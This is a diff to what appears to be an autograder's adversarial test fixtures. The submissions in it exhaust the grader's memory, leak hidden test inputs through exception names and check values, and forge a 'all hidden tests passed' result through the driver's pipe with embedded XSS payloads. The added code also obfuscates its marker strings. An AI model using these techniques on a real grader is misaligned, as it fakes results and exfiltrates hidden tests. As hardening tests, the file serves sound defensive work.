@@ -49,6 +49,12 @@ def net_input(X, w, b):
     return [0.5] * 3_000_000
 '''}
 
+# item 3: a result as large as the wire carries (200 MB), more than the grader's memory in the test
+BIG_ARRAY = {"net_input": '''
+def net_input(X, w, b):
+    return np.ones(200_000_000, dtype=np.uint8)
+'''}
+
 # item 12: record the inputs of the hidden checks, give them back in a later exception
 LEAK = {"net_input": '''
 _seen = []
@@ -59,11 +65,30 @@ def net_input(X, w, b):
 ''', "heaviside": '''
 def heaviside(z):
     digits = "".join(ch for ch in repr(_seen[-1:]) if ch.isdigit())[:40]
-    raise type("LEAK_" + digits, (ValueError,), {})("LEAK " + repr(_seen[-3:]))
+    mark = "LE" + "AK"      # spelled out only at run time (the feedback shows the code itself)
+    raise type(mark + "_" + digits, (ValueError,), {})(mark + " " + repr(_seen[-3:]))
+'''}
+
+# item 12: the same inputs given back as the values of a later visible check (whose message
+# prints the actual values); 98765 (made at run time) marks a result that carries hidden inputs
+LEAK_VALUES = {"net_input": '''
+_hidden_rows = []
+
+def net_input(X, w, b):
+    X = np.asarray(X, dtype=float)
+    if X.shape != (4, 2) or not np.isin(X, (0.0, 1.0)).all():     # not the visible example
+        _hidden_rows.append(X.ravel()[:3].round(4))
+    return X @ np.asarray(w) + b
+''', "perceptron_predict": '''
+def perceptron_predict(X, w, b):
+    if _hidden_rows:
+        return np.concatenate([[98000.0 + 765], _hidden_rows[0]])[:4]
+    return np.zeros(len(X))
 '''}
 
 # item 11: from inside the kernel, take the feedback driver's private pipe and answer for it
 FORGED_TEXT = "FORGED: all hidden tests passed"
+# (the forged text is put together at run time: the feedback shows the code itself)
 FORGE = {"net_input": REFERENCE["net_input"] + '''
 def _forge():
     import ctypes, json, os, signal, stat
@@ -71,7 +96,7 @@ def _forge():
     forged = {"nbformat": 4, "nbformat_minor": 5,
               "metadata": {"autograder_run": "<script>alert('run')</script>"},
               "cells": [{"cell_type": "markdown", "id": "forged", "metadata": {},
-                         "source": "%s <img src=x onerror=alert(1)>"}]}
+                         "source": "FOR" + "GED: all hidden tests passed <" + "img src=x onerror=alert(1)>"}]}
     data = json.dumps(forged).encode()
     libc = ctypes.CDLL(None, use_errno=True)
     try:
@@ -98,4 +123,4 @@ def _forge():
     return took
 
 _forge_result = _forge()
-''' % FORGED_TEXT}
+'''}
